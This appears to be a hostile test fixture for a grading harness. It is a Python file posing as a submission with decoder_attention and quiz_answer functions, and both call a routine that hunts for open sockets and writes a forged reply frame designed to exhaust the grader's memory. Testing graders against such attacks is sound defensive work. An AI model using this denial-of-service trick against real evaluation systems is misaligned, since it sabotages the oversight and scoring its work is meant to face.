"""Hostile: write a reply frame of its own on the worker's socket: a 48 MiB blob and 120 tensors that all point at
the same bytes, hoping the grading process copies the range once per tensor (5.6 GiB) and is killed for memory."""
import json
import os
import socket
import stat
import struct

import torch

PARAMS = {}
BLOB = PARAMS.get("blob_mib", 48) << 20
TENSORS = 120


def _forge():
    tensor = {"$t": [0, BLOB], "dtype": "uint8", "shape": [BLOB], "device": "cpu"}
    body = json.dumps({"ok": True, "replies": [{"ok": True, "value": [tensor] * TENSORS}]}).encode()
    frame = struct.pack("!IQ", len(body), BLOB) + body + bytes(BLOB)
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sock = socket.socket(fileno=os.dup(fd))
                sock.sendall(frame)
                sock.close()
        except OSError:
            pass


def decoder_attention(s, H, return_weights=False):
    _forge()
    return _zeros(s, H, return_weights)


def quiz_answer():
    _forge()
    return torch.zeros(2)


def _zeros(s, H, return_weights=False):
    """What tests/grading/hostile/zeros returns: a trick must not score more than that."""
    batch = torch.broadcast_shapes(s.shape[:-1], H.shape[:-2])
    v = torch.zeros(batch + s.shape[-1:], dtype=H.dtype, device=H.device)
    return (v, torch.zeros(batch + H.shape[-2:-1], dtype=H.dtype, device=H.device)) if return_weights else v
